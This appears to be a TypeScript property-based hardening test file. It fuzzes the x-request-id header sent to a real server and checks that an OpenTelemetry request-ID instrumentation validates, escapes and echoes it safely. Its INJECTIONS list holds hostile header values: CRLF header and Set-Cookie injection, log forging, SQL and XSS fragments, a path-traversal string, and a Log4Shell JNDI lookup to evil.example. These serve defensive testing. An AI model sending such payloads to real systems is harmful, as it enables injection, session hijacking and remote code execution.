/**
 * Property-based tests of the incoming-header path, over a real server (issue #7, item 2).
 *
 * fast-check generates requests: the request-ID header written in any letter case, sent 0 to 3
 * times, with values that are valid IDs, unicode, every byte Node's parser lets through (TAB,
 * 0x20-0x7E, 0x80-0xFF), other bytes it refuses, lengths up to and past the 16 KB header limit,
 * and values shaped like log or header injection. Each property run is a batch of requests in
 * flight together on keep-alive connections, so 10,000 requests take seconds.
 *
 * For every request: the handler's own status (299) arrives, unless Node's parser refused the
 * bytes (400/431), which counts only if a plain server without any OpenTelemetry refuses the same
 * bytes the same way; the echoed ID passes DEFAULT_VALIDATION and is the incoming value exactly
 * when that value is valid and sent once; getRequestId() agrees; the SERVER span holds plain,
 * bounded strings. Across the run: no uncaught exception, no unhandled rejection, no diag
 * warning or error.
 *
 * FC_SEED=<n> replays a run; FC_RUNS=<n> changes the number of batches.
 */
import '../support/otel';
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import { SpanKind } from '@opentelemetry/api';
import type { ReadableSpan } from '../support/sdk-compat';
import fc from 'fast-check';
import { DEFAULT_VALIDATION, getRequestId, RequestIdInstrumentation } from '../../src';
import { DEFAULT_POLICY, isAcceptable, makeSafe, ORIGINAL_MAX_LENGTH } from '../../src/config/validation';
import { startServer, type TestServer } from '../support/http';
import { diagLines, exporter } from '../support/otel';
import { untraced } from '../../bench/lib/untraced';
import { startPlainServer, type PlainServer } from '../support/plain-server';
import { headerValues, RawConnection, type RawResponse } from '../support/raw-http';

const UUID_V4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const BATCH = 50;
// 200 batches of 50: 10,000 generated requests per property in the default run (npm run test:hardening:slow: 100,000).
const RUNS = Number(process.env.FC_RUNS ?? 200);
const SEED = process.env.FC_SEED === undefined ? undefined : Number(process.env.FC_SEED);
const HEADER = 'x-request-id';

// ---------------------------------------------------------------- generators

/** Bytes Node's parser accepts in a header value. */
const allowedByte = fc.oneof(fc.constant(0x09), fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }));
const isAllowedByte = (b: number): boolean => b === 0x09 || (b >= 0x20 && b <= 0x7e) || b >= 0x80;
/** Any byte but CR and LF (which would end the header line: the injection templates cover those). */
const anyByteButCrLf = fc.integer({ min: 0, max: 0xff }).filter((b) => b !== 0x0d && b !== 0x0a);

const ID_CHARS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_@+/=-';
const validLooking = fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 1, maxLength: 220 });
const shortId = fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 1, maxLength: 24 });

const INJECTIONS = [
  'ID\r\nX-Injected: 1',
  'ID\r\nSet-Cookie: session=stolen',
  'ID\r\n folded-continuation',
  'ID\nX-Bare-Lf: 1',
  'ID\rX-Bare-Cr: 1',
  'ID level=error msg="forged entry" user=admin',
  'ID\\r\\nX-Escaped: 1',
  'ID%0d%0aX-Encoded:%201',
  'ID" OR "1"="1',
  '${jndi:ldap://evil.example/ID}',
  '<script>alert("ID")</script>',
  '{"request_id":"ID","level":"error"}',
  'ID\x1b[31mRED\x1b[0m',
  'ID\x00nul',
  'ID\x7fdel',
  'ID, other-id',
  '../../etc/passwd?ID',
  'ID\u2028line-separator',
  'ID\u202eevil-rtl',
];

interface Value {
  kind: string;
  bytes: Buffer;
}
const utf8 = (s: string): Buffer => Buffer.from(s, 'utf8');
const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

const valueArb: fc.Arbitrary<Value> = fc.oneof(
  { weight: 4, arbitrary: validLooking.map((s) => ({ kind: 'valid-looking', bytes: latin1(s) })) },
  { weight: 2, arbitrary: fc.array(allowedByte, { maxLength: 300 }).map((b) => ({ kind: 'allowed-bytes', bytes: Buffer.from(b) })) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map((s) => ({ kind: 'unicode', bytes: utf8(s) })) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((s) => ({ kind: 'unicode-binary', bytes: utf8(s) })) },
  { weight: 1, arbitrary: fc.array(anyByteButCrLf, { maxLength: 40 }).map((b) => ({ kind: 'any-byte', bytes: Buffer.from(b) })) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.constantFrom(...INJECTIONS), shortId).map(([t, id]) => ({ kind: 'injection', bytes: utf8(t.replace('ID', id)) })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 150, max: 17_000 }), fc.constantFrom(0x61, 0x2d, 0x09, 0x20, 0xe9), shortId)
      .map(([n, b, id]) => ({ kind: 'long', bytes: Buffer.concat([latin1(id), Buffer.alloc(n, b)]) })),
  },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '\t', ' \t ', ' padded-id ', '\tpadded\t').map((s) => ({ kind: 'whitespace', bytes: latin1(s) })) },
);

/** The header name in any letter case, or a near miss that is another header (or no header). */
const nameArb = fc.oneof(
  { weight: 9, arbitrary: fc.mixedCase(fc.constant(HEADER)) },
  { weight: 1, arbitrary: fc.constantFrom('X-Request-Id2', 'X-Request_Id', 'X-RequestId', 'X-Request-Id ', ' X-Request-Id') },
);

interface Line {
  name: string;
  separator: string;
  value: Value;
}
const lineArb: fc.Arbitrary<Line> = fc.record({ name: nameArb, separator: fc.constantFrom(':', ': ', ':\t', ':  '), value: valueArb });
/** Mostly one header line; sometimes none, or the header repeated. */
const requestArb = fc.oneof(
  { weight: 1, arbitrary: fc.constant([] as Line[]) },
  { weight: 6, arbitrary: lineArb.map((l) => [l]) },
  { weight: 2, arbitrary: fc.array(lineArb, { minLength: 2, maxLength: 3 }) },
);

function rawRequest(seq: number, lines: Line[]): Buffer {
  const parts: Buffer[] = [latin1(`GET /p/${seq} HTTP/1.1\r\nHost: property.test\r\n`)];
  for (const line of lines) parts.push(latin1(line.name + line.separator), line.value.bytes, latin1('\r\n'));
  parts.push(latin1('\r\n'));
  return Buffer.concat(parts);
}

/**
 * What Node's parser makes of the request-ID lines, for requests whose bytes it accepts as they
 * are (no CR, LF or refused byte): latin1, surrounding spaces and TABs trimmed, repeats joined
 * with ", ". Undefined when the request has something else in it (that is left to Node).
 */
function modelSeenValue(lines: Line[]): { value: string | undefined; count: number } | undefined {
  const ours = lines.filter((l) => l.name.toLowerCase() === HEADER);
  if (lines.some((l) => l.name !== l.name.trim()) || ours.some((l) => !l.value.bytes.every(isAllowedByte))) return undefined;
  let value: string | undefined;
  for (const l of ours) {
    const v = l.value.bytes.toString('latin1').replace(/^[ \t]+|[ \t]+$/g, '');
    value = value === undefined ? v : `${value}, ${v}`;
  }
  return { value, count: ours.length };
}

// ---------------------------------------------------------------- checks

interface Answer {
  seen: string | null;
  raw: string | null;
  count: number;
}

/** What every answered request must satisfy; `span` is its SERVER span. */
function checkAnswered(res: RawResponse, span: ReadableSpan | undefined, where: string): void {
  const echoed = headerValues(res, HEADER);
  assert.equal(echoed.length, 1, `${where}: one ${HEADER} in the response, got ${JSON.stringify(echoed)}`);
  const id = echoed[0];
  assert.ok(id.length >= DEFAULT_VALIDATION.minLength && id.length <= DEFAULT_VALIDATION.maxLength, `${where}: echoed length ${id.length}`);
  assert.match(id, DEFAULT_VALIDATION.pattern, `${where}: the echoed ID passes the validation pattern`);
  const answer = JSON.parse(res.body) as Answer;
  assert.equal(answer.seen, id, `${where}: getRequestId() in the handler is the echoed ID`);

  const raw = answer.raw;
  const reusable = raw !== null && raw !== '' && answer.count === 1 && isAcceptable(raw, DEFAULT_POLICY);
  if (reusable) assert.equal(id, raw, `${where}: a valid ID sent once is reused`);
  else {
    assert.match(id, UUID_V4, `${where}: otherwise a fresh uuid`);
    assert.notEqual(id, raw, `${where}: never the raw invalid value`);
  }

  assert.ok(span, `${where}: the SERVER span was exported`);
  const attrs = span.attributes;
  assert.equal(typeof attrs['request.id'], 'string', `${where}: request.id is a plain string`);
  assert.equal(attrs['request.id'], id, `${where}: request.id is the echoed ID`);
  assert.ok((attrs['request.id'] as string).length <= 200);
  const original = attrs['request.id.original'];
  if (raw === null || raw === '' || reusable) {
    assert.equal(original, undefined, `${where}: no request.id.original when nothing was rejected`);
  } else {
    assert.equal(typeof original, 'string', `${where}: request.id.original is a plain string`);
    const kept = original as string;
    assert.ok(kept.length <= ORIGINAL_MAX_LENGTH, `${where}: request.id.original is ${kept.length} characters`);
    assert.match(kept, /^[\x20-\x7e]*$/, `${where}: request.id.original is printable ASCII`);
    assert.equal(kept, makeSafe(raw), `${where}: request.id.original is the rejected value, escaped`);
  }
}

// ---------------------------------------------------------------- the tests

describe('hardening: property-based tests of the incoming header (fast-check, real server)', function () {
  this.timeout(Math.max(120_000, RUNS * 600));
  let instrumentation: RequestIdInstrumentation;
  let server: TestServer;
  let plain: PlainServer;
  let uncaught = 0;
  const onUncaught = (): void => void uncaught++;

  /** Answers 299 with what the handler saw. Non-ASCII is escaped so the body is plain ASCII. */
  function handler(req: http.IncomingMessage, res: http.ServerResponse): void {
    let count = 0;
    for (let i = 0; i < req.rawHeaders.length; i += 2) if (req.rawHeaders[i].toLowerCase() === HEADER) count++;
    const raw = req.headers[HEADER];
    const body = JSON.stringify({ seen: getRequestId() ?? null, raw: raw === undefined ? null : raw, count });
    res.statusCode = 299;
    res.setHeader('content-type', 'application/json');
    res.end(body.replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`));
  }

  before(async () => {
    plain = await startPlainServer();
    instrumentation = new RequestIdInstrumentation();
    server = await startServer(handler);
    process.on('uncaughtException', onUncaught);
    process.on('unhandledRejection', onUncaught);
  });
  after(async () => {
    process.removeListener('uncaughtException', onUncaught);
    process.removeListener('unhandledRejection', onUncaught);
    instrumentation.disable();
    await server.close();
    await plain.stop();
  });
  beforeEach(() => {
    exporter.reset();
    diagLines.length = 0;
    uncaught = 0;
  });

  /** The SERVER spans of the given request paths, once all of them have ended. */
  async function serverSpans(paths: Set<string>): Promise<Map<string, ReadableSpan>> {
    const found = new Map<string, ReadableSpan>();
    const deadline = Date.now() + 3000;
    while (found.size < paths.size && Date.now() < deadline) {
      for (const span of exporter.getFinishedSpans()) {
        const path = span.attributes['url.path'] as string;
        if (span.kind === SpanKind.SERVER && paths.has(path)) found.set(path, span);
      }
      if (found.size < paths.size) await new Promise((r) => setTimeout(r, 5));
    }
    exporter.reset();
    return found;
  }

  function assertQuiet(): void {
    assert.equal(uncaught, 0, 'no uncaught exception or unhandled rejection');
    const noisy = diagLines.filter((l) => l.level !== 'info');
    assert.deepEqual(noisy, [], 'no diag warning or error');
  }

  it(`raw bytes over keep-alive sockets: ${(RUNS * BATCH).toLocaleString('en-US')} generated requests`, async () => {
    const connections = Array.from({ length: BATCH }, () => new RawConnection(server.port));
    const refusals = new Map<number, number>();
    const kinds = new Map<string, number>();
    let sent = 0;
    let seq = 0;
    try {
      await fc.assert(
        fc.asyncProperty(fc.array(requestArb, { minLength: BATCH, maxLength: BATCH }), async (batch) => {
          const requests = batch.map((lines) => ({ seq: seq++, lines }));
          const responses = await Promise.all(requests.map((r, i) => connections[i].send(rawRequest(r.seq, r.lines))));
          sent += requests.length;
          const answered = new Set(requests.filter((_, i) => responses[i].status === 299).map((r) => `/p/${r.seq}`));
          const spans = await serverSpans(answered);
          for (let i = 0; i < requests.length; i++) {
            const { seq: n, lines } = requests[i];
            const res = responses[i];
            const where = `request ${n} ${JSON.stringify(lines.map((l) => [l.name, l.value.kind, l.value.bytes.toString('latin1').slice(0, 80)]))}`;
            for (const l of lines) kinds.set(l.value.kind, (kinds.get(l.value.kind) ?? 0) + 1);
            if (res.status === 400 || res.status === 431) {
              // Node's parser refused the bytes before any JavaScript ran: a plain server must agree.
              const plainConnection = new RawConnection(plain.port);
              const baseline = await plainConnection.send(rawRequest(n, lines));
              plainConnection.close();
              assert.equal(res.status, baseline.status, `${where}: ${res.status} here, ${baseline.status} without the instrumentation`);
              refusals.set(res.status, (refusals.get(res.status) ?? 0) + 1);
              continue;
            }
            assert.equal(res.status, 299, `${where}: the handler's own status`);
            checkAnswered(res, spans.get(`/p/${n}`), where);
            const model = modelSeenValue(lines);
            if (model !== undefined) {
              const answer = JSON.parse(res.body) as Answer;
              assert.equal(answer.count, model.count, `${where}: header count as modelled`);
              assert.equal(answer.raw, model.value ?? null, `${where}: the value Node's parser passed on, as modelled`);
            }
          }
          assertQuiet();
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: false },
      );
    } finally {
      for (const c of connections) c.close();
    }
    assert.ok(sent >= RUNS * BATCH, `every batch ran: ${sent} requests`);
    console.log(
      `      raw property: ${sent} requests; refused by Node's parser (and by the plain server): ${JSON.stringify(Object.fromEntries(refusals))}; ` +
        `header lines by kind: ${JSON.stringify(Object.fromEntries(kinds))}`,
    );
    assertQuiet();
  });

  it(`Node's own client through a keep-alive Agent: ${(RUNS * BATCH).toLocaleString('en-US')} generated requests`, async () => {
    // What Node's client will send: latin1 strings without control characters other than TAB.
    const clientChar = fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...ID_CHARS) },
      { weight: 2, arbitrary: allowedByte.map((b) => String.fromCharCode(b)) },
      { weight: 1, arbitrary: fc.constantFrom(' ', '\t', ',', ';', '"', '<', '\\', '%', '\u00e9', '\u00ff') },
    );
    const clientValue = fc.string({ unit: clientChar, maxLength: 260 });
    // Long values go alone, up to 12,000 characters: under the 16 KB limit with everything Node's
    // client adds, so every request must reach the handler (the 431 boundary is the raw test's).
    const headersArb = fc.oneof(
      { weight: 1, arbitrary: fc.constant(undefined) },
      { weight: 6, arbitrary: clientValue },
      { weight: 1, arbitrary: fc.tuple(shortId, fc.integer({ min: 190, max: 12_000 })).map(([id, n]) => id + 'x'.repeat(n)) },
      { weight: 2, arbitrary: fc.array(clientValue, { minLength: 2, maxLength: 3 }) },
    );
    const agent = new http.Agent({ keepAlive: true, maxSockets: BATCH });
    let sent = 0;
    let seq = 0;
    let reused = 0;
    const send = (n: number, name: string, value: string | string[] | undefined): Promise<RawResponse> =>
      new Promise((resolve, reject) => {
        const headers: http.OutgoingHttpHeaders = value === undefined ? {} : { [name]: value };
        const req = untraced(() => http.get({ host: '127.0.0.1', port: server.port, path: `/p/${n}`, agent, headers }, (res) => {
          let body = '';
          res.setEncoding('latin1');
          res.on('data', (c: string) => (body += c));
          res.on('end', () => {
            const pairs: [string, string][] = [];
            for (let i = 0; i < res.rawHeaders.length; i += 2) pairs.push([res.rawHeaders[i], res.rawHeaders[i + 1]]);
            resolve({ status: res.statusCode ?? 0, headers: pairs, body });
          });
        }));
        req.on('error', reject);
      });
    try {
      await fc.assert(
        fc.asyncProperty(fc.array(fc.tuple(fc.mixedCase(fc.constant(HEADER)), headersArb), { minLength: BATCH, maxLength: BATCH }), async (batch) => {
          const requests = batch.map(([name, value]) => ({ seq: seq++, name, value }));
          const responses = await Promise.all(requests.map((r) => send(r.seq, r.name, r.value)));
          sent += requests.length;
          const spans = await serverSpans(new Set(requests.filter((_, i) => responses[i].status === 299).map((r) => `/p/${r.seq}`)));
          for (let i = 0; i < requests.length; i++) {
            const { seq: n, name, value } = requests[i];
            const where = `request ${n} ${name}: ${JSON.stringify(value)?.slice(0, 200)}`;
            const res = responses[i];
            assert.equal(res.status, 299, `${where}: the handler's own status`);
            checkAnswered(res, spans.get(`/p/${n}`), where);
            if (typeof value === 'string' && headerValues(res, HEADER)[0] === value) reused++;
          }
          assertQuiet();
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: false },
      );
    } finally {
      agent.destroy();
    }
    assert.ok(sent >= RUNS * BATCH, `every batch ran: ${sent} requests`);
    assert.ok(reused > 0 && reused < sent, `both paths taken: ${reused} of ${sent} incoming IDs reused`);
    console.log(`      agent property: ${sent} requests, ${reused} incoming IDs reused, the rest replaced`);
    assertQuiet();
  });
});
